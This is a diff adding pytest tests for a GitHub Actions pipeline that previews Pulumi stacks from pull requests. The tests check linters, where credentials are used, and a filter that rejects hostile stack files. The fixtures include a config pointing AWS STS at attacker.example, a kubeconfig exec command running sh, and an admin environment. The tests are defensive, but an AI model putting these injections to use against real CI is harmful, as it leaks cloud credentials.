@@ -137,6 +137,12 @@ def test_the_linters_catch_what_the_issue_found(tmp_path: Path) -> None:
                    "        with: {name: x, path: .}\n")
     lint = subprocess.run([tool("actionlint"), str(bad)], capture_output=True, text=True, cwd=tmp_path)
     assert lint.returncode == 1 and 'runtime "node20" is deprecated' in lint.stdout, lint.stdout
+    unquoted = tmp_path / "sh.yml"  # shellcheck is wired in: SC2086 on an unquoted expansion
+    unquoted.write_text("name: sh\non: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
+                        "    steps:\n      - run: rm -rf $DIR/out\n")
+    lint = subprocess.run([tool("actionlint"), "-shellcheck", tool("shellcheck"), str(unquoted)],
+                          capture_output=True, text=True, cwd=tmp_path)
+    assert lint.returncode == 1 and "SC2086" in lint.stdout, lint.stdout
     ziz = subprocess.run([tool("zizmor"), "--offline", "--no-progress", "--format", "plain", str(bad.parent)],
                          capture_output=True, text=True, cwd=tmp_path)
     assert ziz.returncode != 0 and "unpinned-uses" in ziz.stdout and "artipacked" in ziz.stdout, ziz.stdout
@@ -178,6 +184,10 @@ def test_secrets_and_write_tokens_stay_away_from_the_pull_requests_code() -> Non
                                                    "${{ github.event.pull_request.head.sha }}"]
     assert checkouts[1]["with"]["path"] == "pr"
     assert "rm -rf pr" in step("preview", "Take the changed stack files from the pull request", wf)["run"]
+    # after the intake, the only code run with the credentials: the base checkout's .venv and pulumi
+    names = [s.get("name") for s in jobs["preview"]["steps"]]
+    assert names.index("Keep only stack files that hold llmcap config") < names.index(
+        "AWS credentials of the read-only preview role (OIDC)") < names.index("pulumi preview of the changed stacks")
     aws = step("preview", "AWS credentials of the read-only preview role (OIDC)", wf)
     assert aws["with"]["output-env-credentials"] is False  # credentials reach one step only
     # the job that runs the pull request's llmcap: read-only, no OIDC
@@ -361,3 +371,28 @@ def test_the_preview_loop_keeps_what_previewed(tmp_path: Path) -> None:
     assert json.loads((tmp_path / "preview" / "preview-dev.json").read_text()) == {"steps": []}
     assert not (tmp_path / "preview" / "preview-bad.json").exists()
     assert "::warning::pulumi preview failed for stack bad" in r.stdout
+
+
+def test_the_preview_job_previews_only_llmcap_config(tmp_path: Path) -> None:
+    """A stack file with provider settings, ESC environments or other keys is not previewed (removed)."""
+    (tmp_path / ".venv" / "bin").mkdir(parents=True)
+    (tmp_path / ".venv" / "bin" / "python").symlink_to(sys.executable)
+    stacks = tmp_path / "stacks"
+    stacks.mkdir()
+    files = {
+        "dev": (ROOT / "stacks" / "Pulumi.dev.yaml").read_text(encoding="utf-8"),
+        "endpoints": "config:\n  aws:region: us-east-1\n  aws:endpoints:\n    - sts: https://attacker.example\n",
+        "esc": "environment:\n  - aws-admin\nconfig:\n  llmcap:workload: {}\n",
+        "kube": "config:\n  kubernetes:kubeconfig: '{users: [{user: {exec: {command: sh}}}]}'\n",
+        "notyaml": "config: [\n",
+        "list": "- config\n",
+    }
+    for name, text in files.items():
+        (stacks / f"Pulumi.{name}.yaml").write_text(text, encoding="utf-8")
+    (stacks / "Pulumi.big.yaml").write_text("config:\n  llmcap:x: '" + "a" * 1_000_001 + "'\n")
+    r = run_step(step("preview", "Keep only stack files that hold llmcap config"), tmp_path,
+                 {"STACKS": " ".join([*files, "big"])}, tmp_path)
+    assert r.rc == 0, r
+    assert r.outputs == {"stacks": "dev"}
+    assert sorted(p.name for p in stacks.iterdir()) == ["Pulumi.dev.yaml"]
+    assert r.stdout.count("::warning::not previewing stack") == 6, r.stdout
